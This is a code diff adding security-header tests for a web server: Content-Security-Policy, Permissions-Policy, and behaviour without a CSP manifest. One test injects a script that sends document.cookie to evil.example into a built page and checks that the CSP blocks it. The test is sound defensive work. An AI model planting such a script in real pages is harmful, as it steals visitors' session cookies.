@@ -1,5 +1,8 @@
 import { createHash } from 'node:crypto';
+import { readFile, rm, writeFile } from 'node:fs/promises';
+import path from 'node:path';
 import { brotliDecompressSync, gunzipSync } from 'node:zlib';
+import { CSP_MANIFEST_FILE } from '@wf/config/csp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, FAKE_INLINE_SCRIPT, FAKE_SITE, type TestApp } from '../testing/app.ts';
 import { etagMatches } from './site.ts';
@@ -13,7 +16,7 @@ afterAll(async () => {
   await test.close();
 });
 
-const get = (path: string, headers: Record<string, string> = {}) => test.app.request(path, { headers });
+const get = (url: string, headers: Record<string, string> = {}) => test.app.request(url, { headers });
 
 describe('pages', () => {
   it('given /, it serves the home page as revalidated HTML', async () => {
@@ -105,6 +108,64 @@ describe('security headers on HTML', () => {
 
   it('given a 404 page, it carries the CSP too', async () => {
     expect((await get('/nowhere')).headers.get('Content-Security-Policy')).toContain("default-src 'self'");
+  });
+
+  it('given a script written into a built page after the build, its CSP does not allow it (attack: a tampered file)', async () => {
+    const injected = 'fetch("https://evil.example/?c=" + document.cookie)';
+    const file = path.join(test.env.siteDir, 'temples.html');
+    const original = await readFile(file, 'utf8');
+    try {
+      await writeFile(file, `${original}<script>${injected}</script>`);
+      const response = await get('/temples');
+      expect(await response.text()).toContain(injected);
+      const hash = createHash('sha256').update(injected).digest('base64');
+      const csp = response.headers.get('Content-Security-Policy') ?? '';
+      expect(csp).not.toContain(hash);
+      expect(csp).toMatch(/script-src 'self';/);
+    } finally {
+      await writeFile(file, original);
+    }
+  });
+
+  it('given the manifest, the site does not serve it', async () => {
+    expect((await get(`/${CSP_MANIFEST_FILE}`)).status).toBe(404);
+  });
+
+  it('given every page, it carries a Permissions-Policy that turns off the camera, microphone and location', async () => {
+    const policy = (await get('/')).headers.get('Permissions-Policy') ?? '';
+    for (const feature of ['camera=()', 'microphone=()', 'geolocation=()']) expect(policy).toContain(feature);
+  });
+});
+
+describe('security headers on what is not a page', () => {
+  it.each([
+    ['a script', '/_astro/client.abc123.js'],
+    ['a stylesheet', '/_astro/style.def456.css'],
+    ['an SVG image', '/favicon.svg'],
+    ['an API answer', '/api/health'],
+    ['an API error', '/api/nowhere'],
+  ])('given %s, its CSP allows nothing and no framing', async (_, url) => {
+    const response = await get(url);
+    expect(response.headers.get('Content-Security-Policy')).toBe(
+      "default-src 'none'; frame-ancestors 'none'",
+    );
+    expect(response.headers.get('Permissions-Policy')).toContain('camera=()');
+  });
+});
+
+describe('a site built without a CSP manifest', () => {
+  it('given a page with an inline script, no inline script is allowed', async () => {
+    const manifest = path.join(test.env.siteDir, CSP_MANIFEST_FILE);
+    const saved = await readFile(manifest, 'utf8');
+    await rm(manifest);
+    try {
+      const csp = (await get('/')).headers.get('Content-Security-Policy') ?? '';
+      expect(csp).toMatch(/script-src 'self';/);
+    } finally {
+      await writeFile(manifest, saved);
+    }
+    const hash = createHash('sha256').update(FAKE_INLINE_SCRIPT).digest('base64');
+    expect((await get('/')).headers.get('Content-Security-Policy')).toContain(hash);
   });
 });
 
